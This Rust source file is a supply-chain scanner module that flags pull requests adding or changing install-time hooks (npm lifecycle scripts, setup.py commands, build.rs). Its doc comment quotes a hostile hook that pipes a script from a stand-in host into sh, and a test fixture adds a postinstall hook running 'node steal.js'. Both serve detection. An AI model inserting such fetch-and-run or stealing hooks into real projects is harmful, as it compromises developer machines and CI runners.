//! `install_script`: code that runs when the project is installed or built.
//!
//! **What it detects.** Supply-chain `install_script` findings: npm lifecycle scripts
//! (`preinstall`, `install`, `postinstall`, `prepare`, …) or Composer install events added or
//! changed, `setup.py` custom commands or process/network calls, a new or changed `build.rs`.
//!
//! **Why it matters.** Install hooks run on every developer machine and CI runner before any
//! test; "93.9% of malicious packages had at least one install script".
//!
//! **Example.** "adds the postinstall script: curl https://x.example/p.sh | sh".

use super::{DriverSpec, fire_for_findings};
use crate::engine::context::{Context, Sections};
use crate::signal::{Driver, FindingKind};

/// `install_script` as the catalogue lists it.
pub(crate) const SPEC: DriverSpec = DriverSpec {
    id: "install_script",
    label: "Install script",
    weight: 0.45,
    source: "Not fitted in the calibration of 2026-12-06 (docs/calibration.md, \"What the fit cannot see\"): security: fired on 1 of 5,509 corpus PRs — too few to weigh; default kept: Socket / Zahan et al. 2022: 93.9% of malicious packages have at least one install script; npm lifecycle docs; Cargo book \"Build Scripts\"",
    evaluate,
};

fn evaluate(context: &Context, sections: &Sections) -> Option<Driver> {
    fire_for_findings(context, sections, &SPEC, &[FindingKind::InstallScript], "")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::drivers::testing::Case;
    use serde_json::json;

    #[test]
    fn fires_for_a_new_postinstall_hook() {
        let case = Case::new(json!({"pull": {"number": 1}, "files": [
            {"filename": "package.json", "status": "modified", "additions": 1, "deletions": 0,
             "patch": "@@ -1,3 +1,4 @@\n   \"scripts\": {\n+    \"postinstall\": \"node steal.js\",\n     \"test\": \"jest\"\n   },"}
        ]}));
        let driver = case.fired(evaluate).unwrap();
        assert_eq!(
            driver.detail,
            "package.json: adds the postinstall script: node steal.js"
        );
        assert_eq!(driver.weight, 0.36);
    }

    #[test]
    fn ordinary_script_changes_do_not_fire() {
        let case = Case::new(json!({"pull": {"number": 1}, "files": [
            {"filename": "package.json", "status": "modified", "additions": 1, "deletions": 1,
             "patch": "@@ -1,3 +1,3 @@\n   \"scripts\": {\n-    \"test\": \"jest\"\n+    \"test\": \"vitest\"\n   },"}
        ]}));
        assert!(case.fired(evaluate).is_none());
    }
}
